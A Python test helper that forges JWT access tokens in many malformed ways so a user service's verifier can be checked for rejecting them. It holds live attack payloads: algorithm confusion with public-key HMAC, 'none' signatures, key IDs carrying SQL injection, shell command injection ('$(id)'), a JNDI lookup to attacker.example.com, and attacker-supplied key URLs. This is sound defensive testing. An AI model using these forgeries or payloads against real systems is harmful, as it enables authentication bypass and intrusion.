"""Access tokens as an attacker would make them, each for one reason none of ours."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any, Final

import attrs
import jwt
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.ec import SECP256R1, generate_private_key
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from cryptography.x509.oid import NameOID

from userservice_core.domain.signing_keys import SigningAlgorithm
from userservice_core.infrastructure.security.encoding import decode_base64url, encode_base64url
from userservice_core.infrastructure.security.jwk import VerificationKey, private_members
from userservice_core.infrastructure.security.keys import SigningKey

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

    from userservice_core.infrastructure.security.jwk import PublicKey

_LEEWAY_SECONDS: Final = 30
_ED25519_ORDER: Final = 2**252 + 27_742_317_777_372_353_535_851_937_790_883_648_493
_P256_ORDER: Final = SECP256R1().group_order
_ABSENT: Final = object()


@attrs.frozen
class Forger:
    """
    Makes bad tokens from a good one and from the key that signed it.

    Holding the key, it can also make tokens whose signature is right and whose claims are not.
    """

    good: str
    key: SigningKey
    now: datetime

    def attacks(self) -> dict[str, str]:
        """Return all bad tokens by what is bad about them."""
        found: dict[str, str] = {}
        for attack in (
            self._confused_algorithms,
            self._without_signature,
            self._other_algorithms,
            self._injected_key_ids,
            self._brought_keys,
            self._critical_members,
            self._repeated_members,
            self._spoilt_signatures,
            self._spoilt_segments,
            self._other_types,
            self._other_issuers_and_audiences,
            self._times,
            self._subjects,
            self._other_keys,
        ):
            for name, token in attack():
                assert name not in found, name
                assert token != self.good, name
                found[name] = token
        return found

    def controls(self) -> dict[str, str]:
        """Return good tokens at the very edge of what the attacks pass over; the suite would show nothing without."""
        now = int(self.now.timestamp())
        return {
            "as issued": self.good,
            "signed here": self._signed(),
            "in its last second": self._with_claims(exp=now - _LEEWAY_SECONDS + 1),
            "from a clock that is ahead": self._with_claims(iat=now + _LEEWAY_SECONDS),
            "not before a clock that is ahead": self._with_claims(nbf=now + _LEEWAY_SECONDS),
            "for several": self._with_claims(aud=["https://elsewhere.example.com", self._claims["aud"]]),
        }

    # --- making -------------------------------------------------------------------------------------------------------

    @property
    def _header(self) -> dict[str, Any]:
        header: dict[str, Any] = json.loads(decode_base64url(self.good.split(".")[0]))
        return header

    @property
    def _claims(self) -> dict[str, Any]:
        claims: dict[str, Any] = json.loads(decode_base64url(self.good.split(".")[1]))
        return claims

    def _signed(
        self,
        header: Mapping[str, Any] | bytes | None = None,
        payload: Mapping[str, Any] | bytes | None = None,
        *,
        key: SigningKey | None = None,
    ) -> str:
        """Return a token whose signature is right for *key*, ours if not given, whatever its header says."""
        signed = _signing_input(header or self._header, payload or self._claims)
        signer = key or self.key
        algorithm = jwt.get_algorithm_by_name(signer.verification.algorithm.value)
        return f"{signed}.{encode_base64url(algorithm.sign(signed.encode(), signer.private))}"

    def _with_header(self, **changes: object) -> str:
        return self._signed(_changed(self._header, changes))

    def _with_claims(self, **changes: object) -> str:
        return self._signed(None, _changed(self._claims, changes))

    def _with_payload(self, payload: bytes) -> str:
        return self._signed(None, payload)

    def _stranger(self) -> SigningKey:
        """Return a key of the attacker that goes by the id of ours."""
        private = Ed25519PrivateKey.from_private_bytes(hashlib.sha256(b"stranger").digest())
        verification = VerificationKey(self.key.id, SigningAlgorithm.EDDSA, private.public_key())
        return attrs.evolve(self.key, verification=verification, private=private)

    # --- attacks ------------------------------------------------------------------------------------------------------

    def _confused_algorithms(self) -> Iterator[tuple[str, str]]:
        for name, secret in _public_forms(self.key.verification):
            for algorithm, digest in (("HS256", "sha256"), ("HS384", "sha384"), ("HS512", "sha512")):
                header = {**self._header, "alg": algorithm}
                signed = _signing_input(header, self._claims)
                tag = hmac.digest(secret, signed.encode(), digest)
                yield f"{algorithm} with {name} as the secret", f"{signed}.{encode_base64url(tag)}"

    def _without_signature(self) -> Iterator[tuple[str, str]]:
        signature = self.good.split(".")[2]
        for algorithm in ("none", "None", "NONE", "nOnE", "none ", "", None, False, 0, _ABSENT):
            signed = _signing_input(_changed(self._header, {"alg": algorithm}), self._claims)
            shown = "no" if algorithm is _ABSENT else repr(algorithm)
            yield f"alg {shown} without a signature", f"{signed}."
            yield f"alg {shown} with a signature of another token", f"{signed}.{signature}"

    def _other_algorithms(self) -> Iterator[tuple[str, str]]:
        others = ["RS256", "ES256", "EdDSA", "PS256", "RS512", "ES384", "ES256K", "Ed25519", "Ed448", "dir", "RSA-OAEP"]
        others.remove(self.key.verification.algorithm.value)
        mine = self.key.verification.algorithm.value
        for algorithm in (*others, mine.swapcase(), f" {mine}", f"{mine}\0", [mine], {"alg": mine}, 1e308, True):
            yield f"alg {algorithm!r} with our signature", self._with_header(alg=algorithm)

    def _injected_key_ids(self) -> Iterator[tuple[str, str]]:
        mine = self.key.id
        for key_id in (
            "../../../../../../dev/null",
            "/dev/null",
            "/proc/sys/kernel/randomize_va_space",
            "file:///etc/hostname",
            "https://attacker.example.com/keys.json",
            "' OR '1'='1",
            "x' UNION SELECT 'secret' --",
            f"{mine}'; --",
            "$(id)",
            "| id",
            "${jndi:ldap://attacker.example.com/a}",
            "{{7*7}}",
            "__proto__",
            "",
            f"{mine} ",
            f" {mine}",
            f"{mine}\0",
            f"{mine}\n",
            mine.swapcase(),
            mine[:-1],
            mine * 20,
            [mine],
            {"kid": mine},
            0,
            1e308,
            True,
            None,
            _ABSENT,
        ):
            shown = "no" if key_id is _ABSENT else repr(key_id)[:60]
            yield f"kid {shown} with our signature", self._with_header(kid=key_id)
        empty = _signing_input({**self._header, "alg": "HS256", "kid": "/dev/null"}, self._claims)
        tag = hmac.digest(b"", empty.encode(), "sha256")
        yield "kid of an empty file with an empty secret", f"{empty}.{encode_base64url(tag)}"

    def _brought_keys(self) -> Iterator[tuple[str, str]]:
        stranger = self._stranger()
        own, ours = stranger.verification.to_jwk(), self.key.verification.to_jwk()
        certificate = base64.b64encode(_certificate()).decode()
        thumbprint = encode_base64url(hashlib.sha256(_certificate()).digest())
        brought: dict[str, dict[str, Any]] = {
            "the attacker's key": {"jwk": own},
            "the attacker's private key": {"jwk": {**own, **private_members(stranger.private)}},
            "a symmetric key": {"jwk": {"kty": "oct", "k": "AAAA", "kid": self.key.id}},
            "an address of keys": {"jku": "https://attacker.example.com/jwks.json"},
            "an address of a certificate": {"x5u": "https://attacker.example.com/certificate.pem"},
            "a certificate": {"x5c": [certificate]},
            "a certificate and its thumbprint": {"x5c": [certificate], "x5t#S256": thumbprint},
        }
        for name, members in brought.items():
            header = {**self._header, "alg": "EdDSA", **members}
            yield f"{name} in the header, signed with it", self._signed(header, key=stranger)
            yield f"{name} in the header, signed with ours", self._with_header(**members)
        yield "our own key in the header", self._with_header(jwk=ours)
        yield "a null key in the header", self._with_header(jwk=None)

    def _critical_members(self) -> Iterator[tuple[str, str]]:
        criticals: tuple[object, ...] = (["exp"], ["b64"], ["alg"], ["unknown"], [], "exp", None, {})
        for critical in criticals:
            yield f"crit {critical!r}", self._with_header(crit=critical)
        yield (
            "crit that is in the header",
            self._with_header(crit=["http://example.com/is"], **{"http://example.com/is": 1}),
        )
        yield "b64 true", self._with_header(b64=True)
        yield "b64 false", self._with_header(b64=False)
        yield "b64 false and critical", self._with_header(b64=False, crit=["b64"])
        yield "zip", self._with_header(zip="DEF")

    def _repeated_members(self) -> Iterator[tuple[str, str]]:
        header, payload = json.dumps(self._header), json.dumps(self._claims)
        for member, value in (("alg", "none"), ("kid", "x"), ("typ", "JWT"), ("x", "x")):
            before = f'{{"{member}": "{value}", {header[1:]}'
            after = f'{header[:-1]}, "{member}": "{value}"}}'
            if member != "x":
                yield f"{member} twice, ours last", self._signed(before.encode())
                yield f"{member} twice, ours first", self._signed(after.encode())
        yield "alg twice, once escaped", self._signed(f'{{"\\u0061lg": "none", {header[1:]}'.encode())
        for member, text in (
            ("sub", '"x"'),
            ("exp", "1"),
            ("iss", '"x"'),
            ("aud", '"x"'),
            ("sid", '"x"'),
            ("roles", "[]"),
        ):
            yield f"{member} twice, ours last", self._with_payload(f'{{"{member}": {text}, {payload[1:]}'.encode())
            yield f"{member} twice, ours first", self._with_payload(f'{payload[:-1]}, "{member}": {text}}}'.encode())
        yield "sub twice, once escaped", self._with_payload(f'{{"\\u0073ub": "x", {payload[1:]}'.encode())

    def _spoilt_signatures(self) -> Iterator[tuple[str, str]]:
        signed, _, text = self.good.rpartition(".")
        signature = decode_base64url(text)
        length = len(signature)
        spoilt = {
            "empty": b"",
            "without its last byte": signature[:-1],
            "without its first byte": signature[1:],
            "half": signature[: length // 2],
            "with a zero after it": signature + b"\0",
            "with a zero before it": b"\0" + signature,
            "twice": signature * 2,
            "reversed": signature[::-1],
            "of zeros": bytes(length),
            "of ones": b"\xff" * length,
            "of 0x01": b"\1" * length,
            "with its halves exchanged": signature[length // 2 :] + signature[: length // 2],
            "of the text": hashlib.sha512(signed.encode()).digest(),
            "that starts with that of zeros": bytes(length // 2) + signature[length // 2 :],
            "that ends with that of zeros": signature[: length // 2] + bytes(length - length // 2),
        }
        for position in range(0, length, max(1, length // 8)):
            flipped = bytearray(signature)
            flipped[position] ^= 1 << (position % 8)
            spoilt[f"with a bit flipped in byte {position}"] = bytes(flipped)
        match self.key.verification.algorithm:
            case SigningAlgorithm.EDDSA:
                # RFC 8032 §5.1.7: S is less than the order; else each signature could be written in several ways.
                s = int.from_bytes(signature[32:], "little") + _ED25519_ORDER
                spoilt["with S past the order"] = signature[:32] + s.to_bytes(32, "little")
                identity = (1).to_bytes(32, "little")
                spoilt["of a point of small order"] = identity + bytes(32)
            case SigningAlgorithm.ES256:
                r, s = int.from_bytes(signature[:32]), int.from_bytes(signature[32:])
                spoilt["in DER"] = encode_dss_signature(r, s)
                order = _P256_ORDER.to_bytes(32)
                spoilt["of two orders"] = order * 2
                spoilt["with s of the order"] = signature[:32] + order
                spoilt["with r of the order"] = order + signature[32:]
            case SigningAlgorithm.RS256:
                spoilt["of one"] = (1).to_bytes(length)
        for name, data in spoilt.items():
            yield f"signature {name}", f"{signed}.{encode_base64url(data)}"
        texts = {
            "with padding": f"{text}==",
            "with one sign of padding": f"{text}=",
            "without its last sign": text[:-1],
            "with a sign too many": f"{text}A",
            "with stray bits": text[:-1] + chr(ord(text[-1]) + 1),
            "with a space in it": f"{text[:10]} {text[10:]}",
            "with a tabulator in it": f"{text[:10]}\t{text[10:]}",
            "with a sign of another alphabet": f"+{text[1:]}",
            "with a slash": f"/{text[1:]}",
            "with a percent sign": f"%41{text[1:]}",
        }
        for name, spoilt_text in texts.items():
            yield f"signature {name}", f"{signed}.{spoilt_text}"

    def _spoilt_segments(self) -> Iterator[tuple[str, str]]:
        header, payload, signature = self.good.split(".")
        yield "two segments", f"{header}.{payload}"
        yield "one segment", header
        yield "four segments", f"{self.good}.{signature}"
        yield "five segments, as an encrypted token has", f"{header}..{payload}.{payload}.{signature}"
        yield "a dot before", f".{self.good}"
        yield "a dot after", f"{self.good}."
        yield "an empty payload", f"{header}..{signature}"
        yield "an empty header", f".{payload}.{signature}"
        yield "a padded header", f"{header}=.{payload}.{signature}"
        yield "a padded payload", f"{header}.{payload}=.{signature}"
        yield "its segments exchanged", f"{payload}.{header}.{signature}"
        yield "only dots", ".."
        yield (
            "a payload of another token",
            f"{header}.{encode_base64url(json.dumps(self._claims).encode())}.{signature}",
        )
        for name, data in (
            ("a header that is a list", b"[]"),
            ("a header that is text", b'"alg"'),
            ("a header that is no JSON", b"alg: EdDSA"),
            ("a header that is not UTF-8", b'{"alg": "\xff"}'),
            ("a header in UTF-16", json.dumps(self._header).encode("utf-16")),
            ("a header with a mark of its byte order", b"\xef\xbb\xbf" + json.dumps(self._header).encode()),
            ("a header with something after it", json.dumps(self._header).encode() + b"{}"),
            ("a header with NaN", json.dumps({**self._header, "n": float("nan")}).encode()),
        ):
            yield name, self._signed(data)
        claims = json.dumps(self._claims)
        for name, data in (
            ("a payload that is a list", f"[{claims}]".encode()),
            ("a payload that is text", json.dumps(claims).encode()),
            ("a payload that is a number", b"1"),
            ("a payload that is null", b"null"),
            ("a payload without claims", b"{}"),
            ("a payload that is a token", self.good.encode()),
            ("a payload that is not UTF-8", claims.replace('"jti"', '"\xff": 1, "jti"').encode("latin-1")),
            ("a payload in UTF-16", claims.encode("utf-16")),
            ("a payload with a mark of its byte order", b"\xef\xbb\xbf" + claims.encode()),
            ("a payload with something after it", claims.encode() + b" {}"),
            ("a payload with a comma too many", f"{claims[:-1]},}}".encode()),
            ("a payload with NaN", f'{claims[:-1]}, "n": NaN}}'.encode()),
            ("a payload with Infinity", f'{claims[:-1]}, "n": -Infinity}}'.encode()),
            ("a payload that nests deeply", f'{claims[:-1]}, "n": {"[" * 2500}{"]" * 2500}}}'.encode()),
            ("a payload that is cut off", claims[:-1].encode()),
        ):
            yield name, self._with_payload(data)

    def _other_types(self) -> Iterator[tuple[str, str]]:
        types = (
            "JWT",
            "jwt",
            "at+JWT",
            "AT+JWT",
            "application/at+jwt",
            "at+jwt ",
            "at+jwt\0",
            "logout+jwt",
            "dpop+jwt",
        )
        for typ in (*types, "", ["at+jwt"], {"typ": "at+jwt"}, 1, True, None, _ABSENT):
            yield f"typ {'no' if typ is _ABSENT else repr(typ)}", self._with_header(typ=typ)

    def _other_issuers_and_audiences(self) -> Iterator[tuple[str, str]]:
        for name in ("iss", "aud"):
            mine = self._claims[name]
            for value in (
                "https://attacker.example.com",
                f"{mine}/",
                f"{mine} ",
                f"{mine}\0",
                f"{mine}.attacker.example.com",
                mine[:-1],
                mine.upper(),
                "",
                "*",
                [],
                ["https://attacker.example.com"],
                [[mine]],
                [mine, 1],
                [mine, None],
                {mine: True},
                0,
                True,
                1e308,
                None,
                _ABSENT,
            ):
                yield f"{name} {'no' if value is _ABSENT else repr(value)}", self._with_claims(**{name: value})
        issuer = self._claims["iss"]
        yield "a list of issuers with one", self._with_claims(iss=[issuer])
        yield "a list of issuers with ours", self._with_claims(iss=["https://attacker.example.com", issuer])
        yield "issuer and audience exchanged", self._with_claims(iss=self._claims["aud"], aud=issuer)

    def _times(self) -> Iterator[tuple[str, str]]:
        now = int(self.now.timestamp())
        never: tuple[object, ...] = (
            str(now + 600),
            "never",
            "",
            [now + 600],
            {},
            True,
            None,
            float(now + 600) + 0.5,
            -1,
            -now,
            1e308,
            2**63,
        )
        for name in ("exp", "iat"):
            for value in (*never, 253_402_300_800, 10**300, _ABSENT):
                shown = "no" if value is _ABSENT else repr(value)[:30]
                yield f"{name} {shown}", self._with_claims(**{name: value})
        for value in never:
            yield f"nbf {value!r}"[:40], self._with_claims(nbf=value)
        payload = json.dumps(_changed(self._claims, {"exp": _ABSENT}))
        for text in ("1e400", f"{now}e0", f"{now + 600}.0", "9" * 5_000, "0x7fffffff", "-0.0"):
            yield f"exp {text[:20]}", self._with_payload(f'{payload[:-1]}, "exp": {text}}}'.encode())
        for seconds in (0, 1, 60, 86_400):
            yield f"expired {seconds} s after the leeway", self._with_claims(exp=now - _LEEWAY_SECONDS - seconds)
        for seconds in (1, 60, 86_400):
            yield f"issued {seconds} s after the leeway", self._with_claims(iat=now + _LEEWAY_SECONDS + seconds)
            yield f"not before {seconds} s after the leeway", self._with_claims(nbf=now + _LEEWAY_SECONDS + seconds)
        for value in ("1", 1.5, None, 1e308, -1, [1]):
            yield f"auth_time {value!r}", self._with_claims(auth_time=value)

    def _subjects(self) -> Iterator[tuple[str, str]]:
        subject = self._claims["sub"]
        ids = (
            subject.upper(),
            f"{{{subject}}}",
            f"urn:uuid:{subject}",
            f"{subject} ",
            "x",
            "",
            [subject],
            1,
            None,
            _ABSENT,
        )
        for name in ("sub", "sid"):
            for value in ids:
                written = value.replace(subject, self._claims[name]) if isinstance(value, str) else value
                if name == "sid" and value == subject.upper():
                    written = self._claims[name].upper()
                yield f"{name} {'no' if value is _ABSENT else repr(written)}", self._with_claims(**{name: written})
        for name in ("amr", "roles", "permissions"):
            for value in ("admin", ["admin", 1], {"admin": True}, None):
                yield f"{name} {value!r}", self._with_claims(**{name: value})
        for name in ("jti", "client_id"):
            for value in ("", 1, None, ["x"], _ABSENT):
                yield f"{name} {'no' if value is _ABSENT else repr(value)}", self._with_claims(**{name: value})
        yield "a user that is a client, too", self._with_claims(client_id=subject)

    def _other_keys(self) -> Iterator[tuple[str, str]]:
        stranger = self._stranger()
        yield "signed by a stranger under our kid", self._signed({**self._header, "alg": "EdDSA"}, key=stranger)
        other = {**self._header, "alg": "EdDSA", "kid": "stranger"}
        yield "signed by a stranger under another kid", self._signed(other, key=stranger)
        private = generate_private_key(SECP256R1())
        verification = VerificationKey(self.key.id, SigningAlgorithm.ES256, private.public_key())
        curve = attrs.evolve(self.key, verification=verification, private=private)
        yield "signed by a stranger on another curve", self._signed({**self._header, "alg": "ES256"}, key=curve)


def _changed(members: Mapping[str, Any], changes: Mapping[str, object]) -> dict[str, Any]:
    return {name: value for name, value in {**members, **changes}.items() if value is not _ABSENT}


def _signing_input(header: Mapping[str, Any] | bytes, payload: Mapping[str, Any] | bytes) -> str:
    parts = (part if isinstance(part, bytes) else json.dumps(part).encode() for part in (header, payload))
    return ".".join(map(encode_base64url, parts))


def _public_forms(key: VerificationKey) -> Iterator[tuple[str, bytes]]:
    """Yield every form in which the public half of a key may have come to an attacker."""
    public: PublicKey = key.public
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    der = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    ssh = public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)
    jwk = key.to_jwk()
    yield "PEM", pem
    yield "PEM without its last line end", pem.rstrip()
    yield "PEM with other line ends", pem.replace(b"\n", b"\r\n")
    yield "the lines of PEM", b"".join(pem.splitlines()[1:-1])
    yield "DER", der
    yield "DER in hexadecimal digits", der.hex().encode()
    yield "the line of SSH", ssh
    yield "the key of SSH", base64.b64decode(ssh.split()[1])
    yield "JWK", json.dumps(jwk, separators=(",", ":")).encode()
    yield "JWK with spaces", json.dumps(jwk).encode()
    yield "the key set", json.dumps({"keys": [jwk]}, separators=(",", ":")).encode()
    yield "the thumbprint", key.id.encode()
    yield "nothing", b""
    if isinstance(public, RSAPublicKey):
        yield "PKCS#1 in PEM", public.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
        yield "PKCS#1 in DER", public.public_bytes(Encoding.DER, PublicFormat.PKCS1)
        yield "the modulus", jwk["n"].encode()
    else:
        yield "the coordinate", jwk["x"].encode()
        yield "the bytes of the coordinate", decode_base64url(jwk["x"])


def _certificate() -> bytes:
    """Return a certificate that the attacker signed, of the attacker's key."""
    private = Ed25519PrivateKey.from_private_bytes(hashlib.sha256(b"stranger").digest())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "accounts.example.com")])
    begin = datetime(2026, 1, 1, tzinfo=UTC)
    builder = x509.CertificateBuilder(
        subject_name=name,
        issuer_name=name,
        public_key=private.public_key(),
        serial_number=1,
        not_valid_before=begin,
        not_valid_after=begin + timedelta(days=3_650),
    )
    return builder.sign(private, None).public_bytes(Encoding.DER)
